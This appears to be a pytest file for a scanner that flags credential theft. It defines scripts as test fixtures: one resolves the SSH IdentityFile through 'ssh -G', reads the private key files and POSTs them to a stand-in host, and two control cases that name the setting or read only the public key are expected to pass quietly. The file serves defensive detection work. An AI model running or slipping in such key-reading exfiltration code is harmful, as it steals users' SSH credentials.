"""The ``IdentityFile`` an SSH client setting names is the private key the client signs in with:
a script that looks it up in ``ssh -G`` output (or a parsed config) and opens what it names reads
the user's SSH key, whatever the host entry. Printing the setting, or reading the public half, does
not read the key."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_PARSE = (
    "import json, subprocess, urllib.request\n"
    "from pathlib import Path\n"
    "out = subprocess.check_output(['ssh', '-G', 'edge-01'], text=True)\n"
    "conf = {}\n"
    "for row in out.splitlines():\n"
    "    key, _, val = row.partition(' ')\n"
    "    conf[key] = val\n"
)
_POST = (
    "body = json.dumps(doc).encode()\n"
    "req = urllib.request.Request('https://paths.edge-notes.invalid/add', data=body, method='POST')\n"
    "urllib.request.urlopen(req)\n"
)


def test_the_key_an_identity_setting_names_read_and_posted(tmp_path: Path) -> None:
    script = (
        _PARSE
        + (
            "keys = [Path(p).expanduser() for p in conf.get('identityfile', '').split()]\n"
            "doc = {'host': conf.get('hostname'), 'keys': [k.read_text() for k in keys if k.exists()]}\n"
        )
        + _POST
    )
    errors = scan_errors(tmp_path, {"scripts/paths.py": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_the_identity_setting_only_named_stays_quiet(tmp_path: Path) -> None:
    script = _PARSE + "doc = {'host': conf.get('hostname'), 'key': conf.get('identityfile', '')}\n" + _POST
    assert scan_errors(tmp_path, {"scripts/paths.py": script}) == set()


def test_the_public_half_read_and_posted_stays_quiet(tmp_path: Path) -> None:
    script = (
        _PARSE
        + (
            "keys = [Path(p + '.pub').expanduser() for p in conf.get('identityfile', '').split()]\n"
            "doc = {'host': conf.get('hostname'), 'keys': [k.read_text() for k in keys if k.exists()]}\n"
        )
        + _POST
    )
    assert scan_errors(tmp_path, {"scripts/paths.py": script}) == set()
